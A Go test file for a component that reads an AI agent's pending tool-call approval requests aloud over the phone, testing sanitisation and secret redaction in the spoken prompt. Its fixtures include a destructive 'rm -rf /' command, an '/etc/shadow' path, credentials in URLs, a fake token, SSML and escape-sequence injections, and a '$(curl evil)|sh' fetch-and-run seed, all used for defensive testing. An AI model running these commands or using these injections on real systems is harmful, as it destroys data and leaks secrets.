package phone

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/ony-dev/ony-tui/engine"
	"github.com/ony-dev/ony-tui/engine/risk"
	"github.com/ony-dev/ony-tui/engine/wire"
)

// safeSpeech is everything a prompt may contain: text-to-speech gets no
// markup, no control or format characters, nothing outside ASCII.
var safeSpeech = regexp.MustCompile(`^[A-Za-z0-9 ,.:;'()~-]*$`)

func request(title, target string, lvl risk.Level, harness, session string, waited time.Duration, now time.Time) engine.Request {
	return engine.Request{ID: "req_000000000001", Arrived: now.Add(-waited),
		Call: wire.ToolCall{Harness: harness, SessionID: session, Command: "rm -rf / --no-preserve-root",
			Paths: []string{"/etc/shadow"}, URL: "https://user:hunter2@example.com/"},
		Class: engine.Classification{Title: title, Target: target, Risk: lvl, Action: "fs.delete.recursive"}}
}

func TestDescribe(t *testing.T) {
	now := time.Unix(1_800_000_000, 0)
	got := describe(request("Force-push to a git remote", "origin main", risk.Critical, "claude", "3F2a-9c", 90*time.Second, now), now)
	want := "Claude Code, session 3 f 2 a, wants to: force-push to a git remote. Target: origin main. Critical risk. Waiting 1 minute."
	if got != want {
		t.Fatalf("got  %q\nwant %q", got, want)
	}
	for _, bad := range []string{"rm", "shadow", "hunter2", "example.com"} {
		if strings.Contains(got, bad) {
			t.Fatalf("the prompt holds the call's %q: %q", bad, got)
		}
	}
}

func TestSayTarget(t *testing.T) {
	for in, want := range map[string]string{
		"./build":                    "dot slash build",
		"origin main":                "origin main",
		"HEAD~3":                     "HEAD tilde 3",
		"":                           "",
		"https://api.example.com/v1": "https colon slash slash api dot example dot com slash v1",
		"/home/dev/project/deploy/production/values/prod.yaml": "ending in values slash prod dot yaml",
		"./build-sk_live_9f8e7d6c5b4a3210SECRETX":              "dot slash build dash sk underscore live underscore a long value",
		"AKIAIOSFODNN7EXAMPLE":                                 "a long value",
		"db-backup-20260101":                                   "db dash backup dash a long value",
		"<speak><break time='10s'/></speak>":                   "speak break time equals 10s slash slash speak",
		"naïve\u202efile\x1b[2J":                               "na ve file 2J",
		"correcthorsebatterystaplelonger":                      "a long value",
		"a b c d e f g h i j k l m n o p q r s t u v w x y z":  "starting with a b c d e f g h i j k l m n o p q r s t u v w x and more",
	} {
		if got := sayTarget(in); got != want {
			t.Errorf("sayTarget(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSayTitleAndHarness(t *testing.T) {
	now := time.Unix(1_800_000_000, 0)
	r := request("<prosody rate='x-slow'>Delete</prosody> everything", "", risk.High, "evil\x1b]0;x\x07harness", "", 0, now)
	got := describe(r, now)
	if !safeSpeech.MatchString(got) || strings.Contains(got, "<") {
		t.Fatalf("unsafe prompt %q", got)
	}
	if !strings.HasPrefix(got, "An agent (") {
		t.Fatalf("unknown harness: %q", got)
	}
	r.Class.Title = ""
	if got := describe(r, now); !strings.Contains(got, "wants to: fs delete recursive.") {
		t.Fatalf("empty title: %q", got)
	}
	r.Class.Risk = risk.Level(99)
	if got := describe(r, now); !strings.Contains(got, "Unknown risk, treated as critical.") {
		t.Fatalf("unknown risk: %q", got)
	}
}

func TestSayDuration(t *testing.T) {
	for d, want := range map[time.Duration]string{
		0: "1 second", 5 * time.Second: "5 seconds", 59 * time.Second: "59 seconds", 60 * time.Second: "1 minute",
		150 * time.Second: "2 minutes", -time.Second: "1 second",
	} {
		if got := sayDuration(d); got != want {
			t.Errorf("sayDuration(%s) = %q, want %q", d, got, want)
		}
	}
}

func TestPrompts(t *testing.T) {
	now := time.Unix(1_800_000_000, 0)
	r := request("Delete a directory tree", "./build", risk.High, "codex", "s", time.Second, now)
	if got := firstPrompt(3, r, now); !strings.HasPrefix(got, "This is Ony. 3 requests waiting. First: Codex,") || !strings.HasSuffix(got, keysHelp) {
		t.Fatalf("first prompt %q", got)
	}
	if got := firstPrompt(1, r, now); !strings.HasPrefix(got, "This is Ony. 1 request waiting. Codex,") {
		t.Fatalf("single prompt %q", got)
	}
	if got := nextPrompt(2, r, now); !strings.HasPrefix(got, "2 requests waiting. Next: Codex,") {
		t.Fatalf("next prompt %q", got)
	}
}

// FuzzSpeak: whatever an agent puts in a target, a title, a harness or a
// session id, the prompt is short and in the safe alphabet.
func FuzzSpeak(f *testing.F) {
	f.Add("Delete a directory tree", "./build", "claude", "3f2a")
	f.Add("<speak>x</speak>", "$(curl evil)|sh", "\x1b[2J", "\u202e")
	f.Add("", strings.Repeat("/a", 500), "", strings.Repeat("z", 1000))
	f.Fuzz(func(t *testing.T, title, target, harness, session string) {
		now := time.Unix(1_800_000_000, 0)
		got := describe(request(title, target, risk.High, harness, session, time.Second, now), now)
		if !safeSpeech.MatchString(got) {
			t.Fatalf("unsafe prompt %q", got)
		}
		if len(got) > 700 {
			t.Fatalf("prompt of %d bytes", len(got))
		}
	})
}

// A target the engine redacted says so; one that reached the speaker with
// a secret still in it is redacted here too.
func TestSpeechRedacts(t *testing.T) {
	now := time.Unix(1_800_000_000, 0)
	got := describe(request("Push to a git remote", "https://x:***@github.com/o/r.git main", risk.High, "claude", "s", time.Second, now), now)
	if !strings.Contains(got, "Target: https colon slash slash x colon a hidden value at github dot com") {
		t.Fatalf("masked target: %q", got)
	}
	const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
	got = describe(request("Read "+token, "https://x:"+token+"@github.com/o/r.git", risk.High, "claude", "s", time.Second, now), now)
	for _, part := range []string{token, "0123456789abcdefghij", "ABCDEFGHIJ"} {
		if strings.Contains(got, part) {
			t.Fatalf("the token is spoken: %q", got)
		}
	}
}
